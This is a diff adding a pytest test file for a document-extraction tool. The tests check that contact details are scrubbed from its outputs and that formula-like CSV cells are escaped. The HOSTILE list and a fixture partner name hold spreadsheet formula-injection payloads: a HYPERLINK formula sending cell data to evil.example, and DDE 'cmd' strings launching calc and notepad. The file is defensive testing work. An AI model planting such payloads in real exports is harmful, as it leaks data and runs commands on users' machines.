@@ -1,0 +1,205 @@
+"""Personal data and spreadsheet safety (issue 5).
+
+By default no output file contains an e-mail address or a phone number and contact-person phrases
+are not exported; `--include-contacts` writes them to contacts.json/.csv only. CSV cells that a
+spreadsheet would run as a formula are escaped, the JSON keeps the original text.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from kp_extract.clean import EMAIL_PLACEHOLDER, PHONE_PLACEHOLDER, find_contacts, parse_contact, scrub_contacts
+from kp_extract.cli import app
+from kp_extract.model import Page
+from kp_extract.clean import clean_page
+from tests.conftest import RAW
+
+runner = CliRunner()
+
+EMAILS = ("anna.ek@vaxjo.se", "bo.nilsson+icld@kisumu.go.ke", "ingrid.palmbladorlander@vaxjo.se",
+          "annika@id-vaxjo.com", "projekt@ostersund.se")
+PHONES = ("0470-123 45", "+46 (0)470 12 34 56", "070-123 45 67", "+254 20 222 3344", "0470-796720",
+          "0470-77 85 51", "063-14 30 00")
+
+CONTACT_PAGE = f"""\
+Östersund and Kisii, Kenya
+
+Project: Hållbar vattenförsörjning
+
+Östersunds kommun och Kisii County samarbetar sedan 2019 om vattenförsörjning och sanitet i stadens östra delar, där många hushåll saknar rent vatten. Projektet pågår 2023-2025 och bygger på erfarenheter från ett tidigare förprojekt. Vill du veta mer kan du mejla {EMAILS[4]} eller ringa {PHONES[6]} under kontorstid. Kontaktperson: Anna Ek, projektledare. Projektet finansieras av ICLD.
+
+Kontaktperson: Anna Ek, projektledare, Östersunds kommun, {EMAILS[0]}, {PHONES[0]}
+Contact: Bo Nilsson, Kisii County, {EMAILS[1]}, phone {PHONES[3]}
+
+Kontakt
+Cecilia Berg
+Utvecklingsstrateg
+{PHONES[2]}
+e-post: cecilia.berg@ostersund.se
+Tel. {PHONES[1]}
+
+Projektområde
+Miljö och klimat
+Svensk partner
+Östersunds kommun
+Internationell partner
+Kisii County
+"""
+
+EMAIL_RE = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
+
+
+def digits(s: str) -> str:
+    return re.sub(r"\D", "", s)
+
+
+PHONE_DIGITS = tuple(digits(p) for p in PHONES)
+
+
+def leaks(text: str) -> list[str]:
+    """E-mail addresses and known phone numbers (by their digits, whatever the spacing) in text."""
+    found = EMAIL_RE.findall(text)
+    squeezed = digits(text)
+    found += [p for p, d in zip(PHONES, PHONE_DIGITS) if d in squeezed and _spaced(p, text)]
+    return found
+
+
+def _spaced(phone: str, text: str) -> bool:
+    """phone appears in text with any separators between its digits."""
+    pattern = r"\D{0,3}".join(re.escape(c) for c in digits(phone))
+    return re.search(r"(?<!\d)" + pattern + r"(?!\d)", text) is not None
+
+
+@pytest.fixture
+def contact_corpus(tmp_path) -> Path:
+    folder = tmp_path / "in"
+    shutil.copytree(RAW, folder)
+    (folder / "zz_contacts.txt").write_text(CONTACT_PAGE, encoding="utf-8")
+    return folder
+
+
+def run(folder: Path, out: Path, *args: str):
+    result = runner.invoke(app, ["run", str(folder), "--out", str(out), "--workers", "1", "--no-cache", *args])
+    assert result.exit_code == 0, result.output
+    return result
+
+
+def output_texts(out: Path) -> dict[str, str]:
+    return {p.name: p.read_text(encoding="utf-8") for p in sorted(out.rglob("*")) if p.is_file()}
+
+
+def test_fixture_page_really_has_contacts():
+    assert len(leaks(CONTACT_PAGE)) >= len(EMAILS) - 2 + len(PHONES) - 2
+
+
+def test_no_contact_details_in_any_output_by_default(contact_corpus, tmp_path):
+    out = tmp_path / "out"
+    result = run(contact_corpus, out)
+    texts = output_texts(out)
+    assert set(texts) == {"projects.json", "projects.csv", "partnerships.json", "partnerships.csv",
+                          "blocks.jsonl", "errors.jsonl"}
+    for name, text in texts.items():
+        assert leaks(text) == [], name
+        assert "Kontaktperson:" not in text and "Contact:" not in text, name
+    assert leaks(result.stderr) == []
+    projects = json.loads(texts["projects.json"])
+    water = [p for p in projects if p["title"] == "Hållbar vattenförsörjning"]
+    assert water, "the contact page still gives its project"
+    assert "ICLD" in water[0]["summary"] and "Anna Ek" not in water[0]["summary"]
+
+
+def test_include_contacts_writes_them_only_to_contacts_files(contact_corpus, tmp_path):
+    out = tmp_path / "out"
+    result = run(contact_corpus, out, "--include-contacts")
+    texts = output_texts(out)
+    assert {"contacts.json", "contacts.csv"} <= set(texts)
+    for name, text in texts.items():
+        if not name.startswith("contacts."):
+            assert leaks(text) == [], name
+    contacts = json.loads(texts["contacts.json"])
+    assert list(contacts[0]) == ["file", "start", "end", "name", "role", "email", "phone"]
+    emails = {c["email"] for c in contacts}
+    assert {EMAILS[0], EMAILS[1], EMAILS[2], EMAILS[3]} <= emails
+    anna = next(c for c in contacts if c["email"] == EMAILS[0])
+    assert anna["name"] == "Anna Ek" and anna["phone"] == PHONES[0]
+    assert "projektledare" in anna["role"]
+    page = (contact_corpus / anna["file"]).read_text(encoding="utf-8")
+    assert EMAILS[0] in page[anna["start"]:anna["end"]]
+    rows = list(csv.reader(io.StringIO(texts["contacts.csv"])))
+    assert rows[0] == ["file", "start", "end", "name", "role", "email", "phone"]
+    assert len(rows) == len(contacts) + 1
+    assert "contacts" in result.stderr
+    # a later run without the option removes the personal data again
+    run(contact_corpus, out)
+    assert not (out / "contacts.json").exists() and not (out / "contacts.csv").exists()
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("Mejla anna.ek@vaxjo.se för mer.", f"Mejla {EMAIL_PLACEHOLDER} för mer."),
+    ("Ring 0470-123 45 i dag.", f"Ring {PHONE_PLACEHOLDER} i dag."),
+    ("Projektet startade 2020. Kontaktperson: Anna Ek, projektledare. Det går bra.",
+     "Projektet startade 2020. Det går bra."),
+    ("Första raden.\nE-post: anna@x.se\nSista raden.", "Första raden.\nSista raden."),
+    ("Växjö kommun, 2023-2025, 500 000 kronor, SDG 5", "Växjö kommun, 2023-2025, 500 000 kronor, SDG 5"),
+    ("", ""),
+])
+def test_scrub_contacts(text, expected):
+    assert scrub_contacts(text) == expected
+
+
+def test_parse_and_find_contacts():
+    assert parse_contact("Kontaktperson: Anna Ek, projektledare, anna.ek@vaxjo.se, 0470-123 45") == {
+        "name": "Anna Ek", "role": "projektledare", "email": "anna.ek@vaxjo.se", "phone": "0470-123 45"}
+    assert parse_contact("Anna Ek") is None
+    page = clean_page(Page("p.txt", "Rubrik\n\nKontaktperson: Anna Ek, projektledare\nanna.ek@vaxjo.se\n"
+                                    "0470-123 45\n\nText om Växjö.\n", ""))
+    [(start, end, name, role, email, phone)] = find_contacts(page)
+    assert (name, role, email, phone) == ("Anna Ek", "projektledare", "anna.ek@vaxjo.se", "0470-123 45")
+    assert page.text[start:end].startswith("Kontaktperson") and page.text[start:end].endswith("45")
+
+
+# ------------------------------------------------------------------ spreadsheet safety, end to end
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)",
+]
+
+
+def test_hostile_titles_and_partners_are_escaped_in_csv_only(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    cards = []
+    for i, title in enumerate(HOSTILE):
+        cards.append(f"Växjö and Kisumu, Kenya\n\nProject: {title}\n\n"
+                     f"Växjö kommun och Kisumu County i Kenya arbetar tillsammans {2020 + i}-{2022 + i}.\n\n"
+                     "Projektområde\nUrban planning\nSvensk partner\nVäxjö kommun\n"
+                     f"Internationell partner\n=cmd|' /C calc'!A{i}\n")
+    (folder / "hostile.txt").write_text("\n".join(cards), encoding="utf-8")
+    out = tmp_path / "out"
+    run(folder, out)
+    projects = json.loads((out / "projects.json").read_text(encoding="utf-8"))
+    titles = {p["title"] for p in projects}
+    assert set(HOSTILE) <= titles, titles  # the JSON keeps the original text
+    rows = list(csv.DictReader(io.StringIO((out / "projects.csv").read_text(encoding="utf-8"), newline="")))
+    csv_titles = {r["title"] for r in rows}
+    for title in HOSTILE:
+        assert "'" + title in csv_titles
+        assert title not in csv_titles
+    for name in ("projects.csv", "partnerships.csv"):
+        for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8"), newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    partners = [p for r in projects for p in r["international_partners"]]
+    if any(p.startswith("=") for p in partners):  # when extraction keeps such a name, CSV must escape it
+        assert any(r["international_partners"].startswith("'=") for r in rows)
